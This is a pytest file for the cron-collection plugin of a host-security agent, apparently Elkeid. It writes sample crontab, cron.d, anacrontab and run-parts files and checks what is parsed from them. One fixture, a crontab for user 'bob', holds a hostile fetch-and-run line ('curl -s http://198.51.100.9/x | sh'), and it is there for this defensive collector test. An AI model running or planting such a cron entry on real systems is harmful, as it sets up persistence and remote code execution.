from __future__ import annotations

import hashlib
import os
from pathlib import Path

from elkeid import datatypes
from elkeid.agent.plugins.collector import Host
from elkeid.agent.plugins.collector._cron import collect_cron, parse_crontab

from ._sanity import assert_declared


def _write(root: Path, name: str, text: str, mode: int = 0o644) -> None:
    p = root / name.lstrip("/")
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(text)
    os.chmod(p, mode)


def test_system_user_anacron_and_run_parts(tmp_path):
    _write(tmp_path, "/etc/crontab", "SHELL=/bin/sh\n# m h dom mon dow user command\n17 *\t* * *\troot  cd / && run-parts --report /etc/cron.hourly\n")
    _write(tmp_path, "/etc/cron.d/backup", "MAILTO=ops\n@reboot   root  /usr/local/bin/warm-cache\n*/5 * * * * www-data /srv/app/tick.sh >/dev/null 2>&1\n")
    _write(tmp_path, "/etc/cron.d/skip.dpkg-old", "* * * * * root /bin/evil\n")
    _write(tmp_path, "/var/spool/cron/crontabs/alice", "# edit with crontab -e\n0 3 * * 1 /home/alice/bin/report --weekly\n")
    _write(tmp_path, "/var/spool/cron/bob", "@hourly curl -s http://198.51.100.9/x | sh\n")
    _write(tmp_path, "/etc/anacrontab", "SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n@monthly 15 cron.monthly run-parts /etc/cron.monthly\n")
    _write(tmp_path, "/etc/cron.daily/logrotate", "#!/bin/sh\nlogrotate /etc/logrotate.conf\n", 0o755)
    _write(tmp_path, "/etc/cron.daily/notes.txt", "not run: has a dot\n", 0o755)
    _write(tmp_path, "/etc/cron.weekly/not-executable", "#!/bin/sh\n", 0o644)
    records = collect_cron(Host(root=tmp_path))
    got = {(r["path"], r["username"], r["schedule"], r["command"]) for r in records}
    assert got == {
        ("/etc/crontab", "root", "17 * * * *", "cd / && run-parts --report /etc/cron.hourly"),
        ("/etc/cron.d/backup", "root", "@reboot", "/usr/local/bin/warm-cache"),
        ("/etc/cron.d/backup", "www-data", "*/5 * * * *", "/srv/app/tick.sh >/dev/null 2>&1"),
        ("/var/spool/cron/crontabs/alice", "alice", "0 3 * * 1", "/home/alice/bin/report --weekly"),
        ("/var/spool/cron/bob", "bob", "@hourly", "curl -s http://198.51.100.9/x | sh"),
        ("/etc/anacrontab", "root", "@anacron period=1 delay=5 job=cron.daily", "run-parts --report /etc/cron.daily"),
        ("/etc/anacrontab", "root", "@anacron period=@monthly delay=15 job=cron.monthly", "run-parts /etc/cron.monthly"),
        ("/etc/cron.daily/logrotate", "root", "@daily", "/etc/cron.daily/logrotate"),
    }
    by_path = {r["path"]: r for r in records}
    expected = hashlib.md5((tmp_path / "var/spool/cron/bob").read_bytes()).hexdigest()
    assert by_path["/var/spool/cron/bob"]["checksum"] == expected
    assert_declared(datatypes.ASSET_CRON, [dict(r, package_seq="x") for r in records])


def test_short_and_malformed_lines_are_skipped():
    assert parse_crontab("* * * *\n@daily\nFOO = bar\n  \n", user="x") == []
    assert parse_crontab("* * * * * root\n", user=None) == []


def test_this_machine_has_its_debian_cron_files():
    records = collect_cron(Host())
    if os.path.exists("/etc/cron.d/e2scrub_all"):
        assert any(r["path"] == "/etc/cron.d/e2scrub_all" and r["username"] == "root" for r in records)
